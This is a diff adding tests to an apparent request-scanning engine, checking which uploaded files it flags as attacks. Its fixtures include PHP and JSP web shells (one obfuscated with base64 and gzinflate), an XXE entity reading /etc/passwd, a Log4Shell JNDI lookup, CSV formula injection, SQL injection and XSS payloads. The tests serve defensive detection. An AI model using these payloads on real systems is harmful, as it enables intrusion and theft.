@@ -769,3 +769,62 @@ def test_a_notebooks_code_and_outputs_are_its_users_own(engine: Engine) -> None:
         assert types(edited | {"path": "etl.py"}) == set()
         assert types(edited | {"path": "' OR 1=1--"}) == {"sqli"}
         assert partial(_json_types, engine, path="/api/files")(edited) >= {"rce", "sqli"}
+
+
+def _upload(
+    engine: Engine, content: str, filename: str = "notes.txt", media: str = "text/plain"
+) -> set[str]:
+    """The classes found in `content` uploaded as a file of type `media` (or, with no
+    `filename`, sent as a field) in a multipart body."""
+    disposition = f'name="file"; filename="{filename}"' if filename else 'name="file"'
+    head = f"Content-Disposition: form-data; {disposition}\r\nContent-Type: {media}"
+    part = f"--B\r\n{head}\r\n\r\n{content}\r\n"
+    request = _post(part + "--B--\r\n", MULTIPART)
+    return {hit.type.value for hit in engine.scan(request)}
+
+
+def test_an_uploaded_files_text_counts_for_what_a_stored_file_does(engine: Engine) -> None:
+    """A file uploaded in a multipart body is stored, served or imported, not run: the
+    commands, SQL and paths of a script, a dump or a program are what it says. Its text
+    counts for what a stored file does (markup, entities, a formula, PHP's configuration,
+    a Log4Shell lookup), and whole where it holds code a web server runs (a PHP or a JSP
+    tag after an image's header) or is no document (a value sent as a file). Its parsed
+    fields (a CSV's cells) count as any value does, and so does the same text in a field."""
+    script = "#!/bin/sh\nset -e\ncd /srv/app && git pull\nrm -rf build && make\ncat /etc/hostname\n"
+    dump = (
+        "DROP TABLE IF EXISTS users;\nCREATE TABLE users (id int);\nINSERT INTO users VALUES (1);\n"
+    )
+    program = "import os\n\nos.system('ls -la /tmp | wc -l')\nprint(open('/etc/passwd').read())\n"
+    uploaded = partial(_upload, engine)
+    for content, name in ((script, "deploy.sh"), (dump, "dump.sql"), (program, "tool.py")):
+        assert uploaded(content, name) == set(), name
+    assert "rce" in uploaded(script, "")  # a field's value
+    assert "sqli" in uploaded("x' OR 1=1--", "names.txt")  # one line: a value sent as a file
+    # What a stored file does counts.
+    assert "rce" in uploaded("GIF89a\n\n<?php\n@eval($_POST['x']);\n?>\n", "avatar.gif")
+    assert "rce" in uploaded(
+        '<%@ page import="java.io.*" %>\n<%\nRuntime.getRuntime()'
+        '.exec(request.getParameter("c"));\n%>\n',
+        "a.txt",
+    )
+    assert "xss" in uploaded("<html>\n<body>\n<img src=x onerror=alert(1)>\n</body>\n</html>\n")
+    entity = '<?xml version="1.0"?>\n<!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<s>&x;</s>\n'
+    assert "xxe" in uploaded(entity, "logo.svg")
+    assert "rce" in uploaded("; settings\nauto_prepend_file=avatar.gif\nmemory_limit=1G\n", "a.ini")
+    assert "rce" in uploaded("started\nuser=${jndi:ldap://198.51.100.7/a}\ndone\n", "app.log")
+    cells = (
+        "name,email\nAna,ana@example.com\nx' OR 1=1--,b@example.com\n=cmd|' /C calc'!A0,c@x.io\n"
+    )
+    assert uploaded(cells, "people.csv", "text/csv") == {"sqli", "rce"}
+    # (as Windows types a CSV file where Excel is installed)
+    assert uploaded(cells, "people.csv", "application/vnd.ms-excel") == {"sqli", "rce"}
+    # A web shell among files of one name: the name's texts are read together.
+    shell = "GIF89a\n\n<?php\n@eval(gzinflate(base64_decode('80jNycnXUSjPL8pJUQQA')));\n?>\n"
+    both = "".join(
+        f'--B\r\nContent-Disposition: form-data; name="files"; filename="{name}"\r\n\r\n{text}\r\n'
+        for name, text in (("a.gif", shell), ("b.sql", dump))
+    )
+    assert "rce" in {hit.type.value for hit in engine.scan(_post(both + "--B--\r\n", MULTIPART))}
+    # The end of a long upload, where the body's tail starts inside the file: its text.
+    long = "#!/bin/sh\n" + "echo step && make -C src\n" * 6000
+    assert uploaded(long, "build.sh") == set()
